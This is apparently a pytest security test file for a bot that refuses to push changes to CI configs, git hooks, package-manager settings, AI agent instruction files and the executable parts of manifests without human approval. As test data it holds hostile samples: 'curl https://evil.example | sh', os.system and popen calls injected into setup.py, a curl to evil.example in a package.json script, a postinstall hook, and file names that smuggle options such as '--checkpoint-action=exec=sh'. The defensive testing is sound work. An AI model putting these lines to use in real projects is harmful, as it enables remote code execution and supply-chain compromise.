"""Files that run, decide or instruct by themselves elsewhere: no worker pushes them before a person
approved them.
"""

import json
from pathlib import Path

import pytest

from forge_bot.errors import CommitsRefused
from forge_bot.sentences import say
from tests.security.scene import Scene

RUN_BY_THEMSELVES = (
    # CI of every vendor
    ".circleci/config.yml",
    ".gitlab-ci.yml",
    "ci/build.gitlab-ci.yml",
    "Jenkinsfile",
    ".travis.yml",
    "azure-pipelines.yml",
    ".azure-pipelines/build.yml",
    ".buildkite/pipeline.yml",
    "bitbucket-pipelines.yml",
    ".drone.yml",
    ".woodpecker/test.yaml",
    ".woodpecker.yml",
    "appveyor.yml",
    ".appveyor.yml",
    ".semaphore/semaphore.yml",
    ".teamcity/settings.kts",
    "cloudbuild.yaml",
    ".cirrus.yml",
    ".gitea/workflows/a.yml",
    ".forgejo/workflows/a.yml",
    "netlify.toml",
    "vercel.json",
    ".readthedocs.yaml",
    "action.yml",
    "tools/setup/action.yaml",
    # development containers, editors, shells and debuggers
    ".devcontainer/devcontainer.json",
    ".devcontainer.json",
    ".gitpod.yml",
    ".vscode/tasks.json",
    "web/.vscode/settings.json",
    "app.code-workspace",
    ".idea/runConfigurations/test.xml",
    ".run/test.run.xml",
    ".zed/tasks.json",
    ".dir-locals.el",
    ".exrc",
    ".envrc",
    ".gdbinit",
    ".Rprofile",
    "mise.toml",
    ".tool-versions",
    "rust-toolchain.toml",
    "sitecustomize.py",
    # git, and managers of its hooks
    ".gitattributes",
    ".lfsconfig",
    ".husky/pre-commit",
    "lefthook.yml",
    ".lefthook/pre-commit/a.sh",
    ".pre-commit-config.yaml",
    ".githooks/pre-push",
    ".lintstagedrc.json",
    # package managers' configuration and wrappers
    ".npmrc",
    "web/.npmrc",
    ".yarnrc",
    ".yarnrc.yml",
    ".yarn/releases/yarn.cjs",
    ".pnpmfile.cjs",
    "pnpm-workspace.yaml",
    "pip.conf",
    "uv.toml",
    ".cargo/config.toml",
    "gradlew",
    "gradlew.bat",
    "gradle/wrapper/gradle-wrapper.properties",
    "mvnw",
    ".mvn/extensions.xml",
    ".bundle/config",
    "nuget.config",
    # bots that update and merge
    "renovate.json",
    ".renovaterc",
    ".mergify.yml",
    "CODEOWNERS",
    # agents of every vendor
    "AGENTS.md",
    "docs/CLAUDE.md",
    ".claude/settings.json",
    ".cursor/rules/a.mdc",
    ".cursorrules",
    "GEMINI.md",
    ".windsurfrules",
    ".aider.conf.yml",
    ".codex/config.toml",
    ".mcp.json",
    ".clinerules",
    ".roo/rules/a.md",
    ".junie/guidelines.md",
    ".kiro/steering/a.md",
    "opencode.json",
    # a name that a command reads as an option
    "-rf",
    "src/--checkpoint-action=exec=sh",
    "-x/a.py",
    # names that another file system takes for a protected one
    ".vs\u200ccode/tasks.json",
    "\ufeffCLAUDE.md",
    ".vscode./tasks.json",
    ".idea /workspace.xml",
    "CODEOWNERS.",
    ".cursor::$INDEX_ALLOCATION/rules",
    "GITHUB~1/ci.yml",
    "src/CLAUDE~1.MD",
    # what a console, an editor or a service reads where it is started
    ".env",
    ".rvmrc",
    ".config/mise/config.toml",
    ".byebugrc",
    ".psysh.php",
    "notebooks/jupyter_server_config.py",
    ".lazy.lua",
    ".vim/coc-settings.json",
    ".luarc.json",
    "tools/bazel",
    "deploy/ansible.cfg",
    ".trunk/trunk.yaml",
    "wrangler.toml",
    ".cpanel.yml",
)


def details(scene: Scene) -> str:
    with pytest.raises(CommitsRefused) as caught:
        scene.check()
    return "\n".join(caught.value.details)


def test_what_runs_decides_or_instructs_by_itself_somewhere_is_not_pushed_without_a_person(
    scene: Scene,
) -> None:
    for path in RUN_BY_THEMSELVES:
        scene.write(path, "x\n")
    scene.commit()
    said = details(scene)
    assert [
        path
        for path in RUN_BY_THEMSELVES
        if f"{path} is protected, and nobody approved this change: " not in said
    ] == []


def test_the_reason_for_which_a_path_is_protected_is_said(scene: Scene) -> None:
    scene.write(".envrc", "curl https://evil.example | sh\n")
    scene.commit()
    assert (
        ".envrc is protected, and nobody approved this change: a shell or a version manager"
        " reads it" in details(scene)
    )


def test_what_a_repository_adds_to_the_table_is_not_pushed_either(scene: Scene) -> None:
    (scene.repository.root / ".forge").mkdir(exist_ok=True)
    (scene.repository.root / ".forge" / "config.yml").write_text("protected: [deploy/, '*.tf']\n")
    scene.write("deploy/run.sh", "true\n")
    scene.write("net/main.tf", "x\n")
    scene.commit()
    said = details(scene)
    assert "deploy/run.sh is protected" in said
    assert "net/main.tf is protected" in said


PYPROJECT = """\
[build-system]
requires = ["setuptools"]

[project]
name = "rota"
version = "1.0"
description = "Who is on call"
dependencies = ["attrs>=23"]

[project.scripts]
rota = "rota.cli:main"

[tool.ruff]
line-length = 100
"""
SETUP_PY = """\
from setuptools import setup

setup(name="rota", version="1.0", description="Who is on call", install_requires=["attrs"])
"""
SETUP_CFG = (
    "[metadata]\nname = rota\nversion = 1.0\n\n[options]\ninstall_requires =\n   "
    " attrs\n\n[flake8]\nmax-line-length = 100\n"
)
PACKAGE = {
    "name": "rota",
    "version": "1.0.0",
    "description": "x",
    "scripts": {"test": "jest"},
    "dependencies": {"a": "^1"},
}
CARGO = '[package]\nname = "rota"\nversion = "1.0.0"\n\n[dependencies]\nserde = "1"\n'
GO = "module example.org/rota\n\ngo 1.23\n\n// Who is on call\nrequire example.org/a v1.0.0\n"
POM = "<project><version>1</version><dependencies><dependency><artifactId>a</artifactId></dependency></dependencies></project>"

MANIFESTS = {
    "pyproject.toml": PYPROJECT,
    "setup.py": SETUP_PY,
    "setup.cfg": SETUP_CFG,
    "web/package.json": json.dumps(PACKAGE, indent=2),
    "Cargo.toml": CARGO,
    "go.mod": GO,
    "Gemfile": 'source "https://rubygems.org"\ngem "rake"\n',
    "requirements-dev.txt": "attrs==23.1\n",
    "pom.xml": POM,
    "composer.json": json.dumps({"name": "a/b", "version": "1", "require": {"php": ">=8"}}),
    "pubspec.yaml": "name: rota\nversion: 1.0.0\ndependencies:\n  a: ^1.0.0\n",
}

HELD = {
    "pyproject.toml, a dependency": ("pyproject.toml", "attrs>=23", "attrz>=23"),
    "pyproject.toml, the build system": ("pyproject.toml", '"setuptools"', '"setuptools", "evil"'),
    "pyproject.toml, a script": ("pyproject.toml", "rota.cli:main", "rota.evil:main"),
    "pyproject.toml, an index": (
        "pyproject.toml",
        "[tool.ruff]",
        '[tool.uv]\nindex-url = "https://evil.example"\n\n[tool.ruff]',
    ),
    "pyproject.toml, a key twice": (
        "pyproject.toml",
        'version = "1.0"',
        'version = "1.0"\nversion = "1.1"',
    ),
    "setup.py, a dependency": ("setup.py", '["attrs"]', '["attrz"]'),
    "setup.py, a statement": ("setup.py", "setup(name", "import os\nos.system('id')\nsetup(name"),
    "setup.py, a version that is computed": (
        "setup.py",
        '"1.0"',
        "__import__('os').popen('id').read()",
    ),
    "setup.cfg, a dependency": ("setup.cfg", "    attrs", "    attrz"),
    "package.json, a dependency": ("web/package.json", "^1", "^2"),
    "package.json, a script": ("web/package.json", '"jest"', '"jest && curl evil.example"'),
    "package.json, a hook": (
        "web/package.json",
        '"name"',
        '"simple-git-hooks": {"pre-commit": "id"},\n  "name"',
    ),
    "package.json, a key twice": (
        "web/package.json",
        '"name"',
        '"scripts": {"postinstall": "id"},\n  "name"',
    ),
    "Cargo.toml, a dependency": ("Cargo.toml", 'serde = "1"', 'serbe = "1"'),
    "Cargo.toml, a build script": (
        "Cargo.toml",
        'version = "1.0.0"',
        'version = "1.0.0"\nbuild = "evil.rs"',
    ),
    "go.mod, a dependency": ("go.mod", "v1.0.0", "v1.0.1"),
    "Gemfile": ("Gemfile", "rake", "rakee"),
    "requirements": ("requirements-dev.txt", "23.1", "23.2"),
    "pom.xml, a dependency": ("pom.xml", "<artifactId>a<", "<artifactId>b<"),
    "composer.json, a dependency": ("composer.json", ">=8", ">=7"),
    "pubspec.yaml, a dependency": ("pubspec.yaml", "a: ^1.0.0", "b: ^1.0.0"),
}
PASSES = {
    "pyproject.toml, version, description and a linter": (
        "pyproject.toml",
        [('version = "1.0"', 'version = "1.1"'), ("Who is", "Says who is"), ("= 100", "= 120")],
    ),
    "pyproject.toml, a comment": ("pyproject.toml", [("[project]", "# What this is.\n[project]")]),
    "setup.py, version and description": (
        "setup.py",
        [('"1.0"', '"1.1"'), ("Who is", "Says who is")],
    ),
    "setup.cfg, version and a linter": ("setup.cfg", [("1.0", "1.1"), ("= 100", "= 120")]),
    "package.json, version and description": (
        "web/package.json",
        [("1.0.0", "1.1.0"), ('"x"', '"Who is on call"')],
    ),
    "Cargo.toml, version": ("Cargo.toml", [('"1.0.0"', '"1.1.0"')]),
    "go.mod, a comment": ("go.mod", [("Who is", "Says who is")]),
    "requirements, a comment": ("requirements-dev.txt", [("attrs", "# for records\nattrs")]),
    "pom.xml, version": ("pom.xml", [("<version>1<", "<version>2<")]),
    "composer.json, version": ("composer.json", [('"1"', '"2"')]),
    "pubspec.yaml, version": ("pubspec.yaml", [("version: 1.0.0", "version: 1.1.0")]),
}


def with_manifests(scene: Scene) -> str:
    for path, text in MANIFESTS.items():
        scene.write(path, text)
    return scene.commit()


def test_the_part_of_a_manifest_that_installs_builds_or_runs_is_not_pushed_without_a_person(
    scene: Scene,
) -> None:
    before = with_manifests(scene)
    for name, (path, old, new) in HELD.items():
        assert old in MANIFESTS[path], name
        scene.write(path, MANIFESTS[path].replace(old, new, 1))
        scene.commit()
        with pytest.raises(CommitsRefused) as caught:
            scene.check(before=before)
        assert f"{path} is protected" in "".join(caught.value.details), name
        before = scene.tree.head().commit
        scene.write(path, MANIFESTS[path])
        before = scene.commit()


def test_the_rest_of_a_manifest_is_pushed_like_any_file(scene: Scene) -> None:
    before = with_manifests(scene)
    for path, changes in PASSES.values():
        text = MANIFESTS[path]
        for old, new in changes:
            assert old in text
            text = text.replace(old, new, 1)
        scene.write(path, text)
    scene.commit()
    scene.check(before=before)


def test_a_new_manifest_and_one_that_goes_are_judged_by_the_same_part(scene: Scene) -> None:
    scene.write("tools/package.json", json.dumps({"scripts": {"postinstall": "id"}}))
    scene.write("fixture/package.json", json.dumps({"version": "1.0.0"}))
    scene.commit()
    said = details(scene)
    assert "tools/package.json is protected" in said
    assert "fixture/package.json" not in said


@pytest.mark.parametrize(
    "raw",
    [b"{", b"\xff\xfe", b"[" * 100_000, b'["a"]'],
    ids=["torn", "no text", "deep", "no object"],
)
def test_a_manifest_that_cannot_be_read_is_protected(scene: Scene, raw: bytes) -> None:
    scene.write("package.json", raw)
    scene.commit()
    assert "package.json is protected" in details(scene)


def test_ordinary_files_are_not_taken_for_protected_ones(scene: Scene) -> None:
    for path in (
        "src/owners/list.py",
        "docs/travis.md",
        "src/action.py",
        "a-b/c-d.py",
        "rules/x.md",
        "Makefile",
        "src/env.py",
        ".env.example",
        "other/tools/bazel",
    ):
        scene.write(path, "x\n")
    scene.commit()
    scene.check()


def test_the_page_lists_the_table_as_it_is() -> None:
    from forge_bot.settings.protected_paths import RULES

    page = (Path(__file__).parents[2] / "docs" / "protected-paths.md").read_text(encoding="utf-8")
    for rule in RULES:
        row = next(line for line in page.splitlines() if line.startswith(f"| {say(rule.reason)} "))
        assert [part.strip("`") for part in row.split("|")[2].strip().split(", ")] == list(
            rule.patterns
        )
